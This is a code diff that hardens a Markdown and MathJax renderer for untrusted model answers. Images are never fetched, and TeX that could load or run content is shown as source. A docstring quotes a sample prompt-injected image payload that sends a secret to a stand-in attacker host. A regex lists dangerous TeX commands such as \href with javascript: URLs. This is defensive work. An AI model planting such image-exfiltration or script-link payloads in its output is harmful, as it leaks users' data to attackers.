@@ -11,6 +11,12 @@ any `$…$` for maths ("$5 and $10" became italic "5and10"). So the answer sits 
 element MathJax ignores (`mathjax_ignore`; `tex2jax_ignore` for older MathJax), and only
 the maths that mdit-py-plugins found by Pandoc's dollar rules (or as `$$…$$`, `\\(…\\)`,
 `\\[…\\]`) goes out, re-delimited as `\\(…\\)` / `\\[…\\]`, in elements MathJax processes.
+
+No remote content: an answer is untrusted (a prompt-injected answer may write
+`![](https://attacker/?q=secret)`), so no image in it is ever fetched. A Markdown image,
+and an `<img>` tag written in prose, show as a link with their alt text. Maths that could
+make MathJax load or run something (`\\href{javascript:…}`, `\\style`, macro definitions, …)
+is shown as its TeX source instead of being typeset.
 """
 
 from __future__ import annotations
@@ -24,6 +30,7 @@ from typing import Any, Protocol
 
 from markdown_it import MarkdownIt
 from markdown_it.rules_block import StateBlock
+from markdown_it.rules_inline import StateInline
 from markdown_it.token import Token
 from mdit_py_plugins.dollarmath import dollarmath_plugin
 from mdit_py_plugins.texmath import texmath_plugin
@@ -62,15 +69,120 @@ class Answer(Protocol):
 
 
 def _math_inline(_renderer: Any, tokens: Sequence[Token], idx: int, *_: Any) -> str:
-    return f'<span class="math {MATH}">\\({html.escape(tokens[idx].content)}\\)</span>'
+    tex = tokens[idx].content
+    if not tex_is_safe(tex):
+        return f"<code>{html.escape(tex)}</code>"
+    return f'<span class="math {MATH}">\\({html.escape(tex)}\\)</span>'
 
 
 def _math_display_inline(_renderer: Any, tokens: Sequence[Token], idx: int, *_: Any) -> str:
-    return f'<span class="math {MATH}">\\[{html.escape(tokens[idx].content)}\\]</span>'
+    tex = tokens[idx].content
+    if not tex_is_safe(tex):
+        return f"<code>{html.escape(tex)}</code>"
+    return f'<span class="math {MATH}">\\[{html.escape(tex)}\\]</span>'
 
 
 def _math_block(_renderer: Any, tokens: Sequence[Token], idx: int, *_: Any) -> str:
-    return f'<div class="math {MATH}">\\[{html.escape(tokens[idx].content.strip())}\\]</div>\n'
+    tex = tokens[idx].content.strip()
+    if not tex_is_safe(tex):
+        return f"<pre><code>{html.escape(tex)}</code></pre>\n"
+    return f'<div class="math {MATH}">\\[{html.escape(tex)}\\]</div>\n'
+
+
+# TeX that MathJax (with the extensions JupyterLab autoloads) turns into a link, CSS, an
+# attribute or a download: `\\style{background:url(…)}`, `\\mmlToken{mi}[href="…"]`,
+# `\\require{…}`; and macro definitions, which could assemble an `\\href` from pieces.
+_TEX_UNSAFE = re.compile(
+    r"\\(?:(?:style|class|cssId|data|require|mmlToken|url|def|gdef|edef|xdef|let|futurelet"
+    r"|newcommand|renewcommand|providecommand|newenvironment|renewenvironment"
+    r"|DeclareMathOperator|Newextarrow)(?![A-Za-z])|bbox\s*\[[^\]]*:)"
+)
+_TEX_HREF = re.compile(r"\\href(?![A-Za-z])\s*")
+_SAFE_URL = re.compile(r"(?:https?|mailto):|[^:]*(?:[/?#]|$)", re.IGNORECASE)
+_URL_IGNORED = re.compile(r"[\x00-\x20\x7f]")  # browsers drop these from a URL's scheme
+
+
+def tex_is_safe(tex: str) -> bool:
+    """Whether MathJax may typeset `tex`: nothing in it can load, style or run anything,
+    and each `\\href` goes to a web, mail or relative address."""
+    if _TEX_UNSAFE.search(tex):
+        return False
+    for match in _TEX_HREF.finditer(tex):
+        url = _braced(tex, match.end())
+        if url is None or not _SAFE_URL.match(_URL_IGNORED.sub("", url)):
+            return False
+    return True
+
+
+def _braced(tex: str, at: int) -> str | None:
+    """The text of the `{…}` group that starts at `at`, or None if none does."""
+    if not tex.startswith("{", at):
+        return None
+    depth, i = 0, at
+    while i < len(tex):
+        if tex[i] == "\\":
+            i += 2  # an escaped brace does not count
+            continue
+        depth += {"{": 1, "}": -1}.get(tex[i], 0)
+        if depth == 0:
+            return tex[at + 1 : i]
+        i += 1
+    return None
+
+
+# `<img …>` written in prose (raw HTML is otherwise shown as text): its src and alt.
+_IMG_TAG = re.compile(r"<img(?=[\s/>])([^<>]*)>", re.IGNORECASE)
+_ATTRIBUTE = re.compile(
+    r"""([^\s"'<>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?""", re.IGNORECASE
+)
+
+
+def _img_tag(state: StateInline, silent: bool) -> bool:
+    """An `<img>` tag in prose, as an image token (shown as a link, like `![alt](src)`)."""
+    match = _IMG_TAG.match(state.src, state.pos)
+    if match is None:
+        return False
+    attributes: dict[str, str] = {}
+    for attribute in _ATTRIBUTE.finditer(match.group(1)):
+        value = next((v for v in attribute.group(2, 3, 4) if v is not None), "")
+        attributes.setdefault(attribute.group(1).lower(), html.unescape(value))
+    src = state.md.normalizeLink(attributes.get("src", "").strip())
+    if not src or not state.md.validateLink(src):
+        return False  # left as text
+    if not silent:
+        token = state.push("image", "img", 0)
+        token.attrs = {"src": src}
+        if attributes.get("title"):
+            token.attrs["title"] = attributes["title"]
+        token.content = attributes.get("alt", "")
+        token.children = []
+    state.pos = match.end()
+    return True
+
+
+def _image_as_link(renderer: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
+    """An image in an answer is never fetched: its alt text, as a link to it (outside a
+    link; inside one, the alt text alone, as links cannot nest)."""
+    token = tokens[idx]
+    alt = token.content
+    if token.children:
+        alt = renderer.renderInlineAsText(token.children, options, env)
+    alt = html.escape(alt.strip() or "image")
+    if _inside_link(tokens, idx):
+        return alt
+    src = str(token.attrs.get("src", ""))
+    title = str(token.attrs.get("title", "") or f"image, not loaded: {src}")
+    return (
+        f'<a class="ollama-nb-image" href="{html.escape(src)}" title="{html.escape(title)}">'
+        f"{alt}</a>"
+    )
+
+
+def _inside_link(tokens: Sequence[Token], idx: int) -> bool:
+    depth = 0
+    for token in tokens[:idx]:
+        depth += {"link_open": 1, "link_close": -1}.get(token.type, 0)
+    return depth > 0
 
 
 @functools.lru_cache(maxsize=1)
@@ -87,6 +199,8 @@ def _markdown() -> MarkdownIt:
         md.add_render_rule(name, _math_display_inline)
     for name in ("math_block", "math_block_label", "math_block_eqno", "math_double"):
         md.add_render_rule(name, _math_block)
+    md.inline.ruler.before("autolink", "img_tag", _img_tag)
+    md.add_render_rule("image", _image_as_link)
     md.block.tokenize = functools.partial(_tokenize_within_depth, md.block.tokenize)  # type: ignore[method-assign]
     return md
 
